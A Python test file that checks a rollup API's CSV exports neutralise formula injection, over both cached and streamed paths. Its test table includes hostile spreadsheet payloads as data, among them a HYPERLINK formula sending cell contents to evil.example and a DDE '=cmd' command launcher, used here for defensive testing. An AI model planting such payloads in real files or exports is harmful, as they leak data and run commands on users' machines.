"""CSV formula injection: a dimension value a spreadsheet would run as a formula is exported inert.

OWASP's rule: a cell beginning with = + - @ TAB or CR gets a leading `'`. Numbers are
data and stay as they are: measures, and dimension values that are JSON numbers (how
a numeric property is stored), negative ones included. Both CSV paths are checked over
HTTP against stored rows: a page (cached) and a streamed export; JSON is unchanged.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import asyncpg
import httpx
import pytest

from core.settings import Settings
from query.render import neutralize
from tests.integration.query_support import fill_coarse, query_api

ROLLUP = "/v1/rollups/events_by_type"
WHOLE = {"from": "2026-03-01T00:00:00Z", "to": "2026-05-01T00:00:00Z"}
# stored value -> the CSV cell a spreadsheet receives
CELLS = {
    '=HYPERLINK("https://evil.example/?d="&A1,"open")': '\'=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "-": "'-",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "-5": "-5",  # a JSON number: data
    "-0.25e3": "-0.25e3",
    "12": "12",
    "a=b": "a=b",  # a formula character later in the text is harmless
    " =1": " =1",
    "": "",
    "plain": "plain",
}


def test_neutralize_each_formula_start() -> None:
    for stored, cell in CELLS.items():
        assert neutralize(stored) == cell, stored
    assert neutralize("+1") == "'+1"  # not how a JSON number is written
    assert neutralize("-01") == "'-01"
    assert neutralize("-1e") == "'-1e"
    assert neutralize("'=already quoted") == "'=already quoted"


@pytest.mark.integration
async def test_both_csv_paths_neutralize_stored_formulas(migrated: Settings) -> None:
    bucket = datetime(2026, 4, 1, 12, 0, tzinfo=UTC)
    stored = [(bucket, value, "=1+2" if i == 0 else "web", i + 1, Decimal(-i) - Decimal("0.5"))
              for i, value in enumerate(CELLS)]
    conn = await asyncpg.connect(str(migrated.postgres_url))
    try:
        await conn.executemany(
            "INSERT INTO agg_events_by_type (bucket, type, source, count, sum_properties_amount) "
            "VALUES ($1, $2, $3, $4, $5)", stored)
        await fill_coarse(conn, migrated, "events_by_type")  # the coarse tables a total query may read
    finally:
        await conn.close()
    expected = sorted(
        [CELLS[value], "'=1+2" if source == "=1+2" else source, str(count), str(amount)]
        for _, value, source, count, amount in stored
    )
    params = {**WHOLE, "fields": "type,source,count,sum_properties_amount", "format": "csv"}
    async with query_api(migrated.model_copy(update={"max_limit": 5, "default_limit": 5})) as http:
        page = await http.get(ROLLUP, params={**params, "limit": "5", "order": "count"})
        pages = [page, await http.get(ROLLUP, params={**params, "limit": "5", "order": "count"})]  # miss, hit
        rest = await http.get(ROLLUP, params={**params, "limit": "5", "order": "count",
                                              "cursor": page.headers["x-next-cursor"]})
        last = await http.get(ROLLUP, params={**params, "limit": "5", "order": "count",
                                              "cursor": rest.headers["x-next-cursor"]})
        export = await http.get(ROLLUP, params={**params, "limit": "100"})
        as_json = await http.get(ROLLUP, params={**params, "format": "json", "limit": "5", "order": "count"})
    assert [p.headers["x-cache"] for p in pages] == ["miss", "hit"] and export.headers["x-cache"] == "stream"
    assert pages[0].content == pages[1].content

    def table(r: httpx.Response) -> list[list[str]]:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
        assert rows[0] == ["type", "source", "count", "sum_properties_amount"]
        return rows[1:]

    assert sorted(table(page) + table(rest) + table(last)) == expected
    assert sorted(table(export)) == expected
    assert [row["type"] for row in as_json.json()["data"]] == list(CELLS)[:5]  # JSON carries the stored text
    assert as_json.json()["data"][0]["source"] == "=1+2"
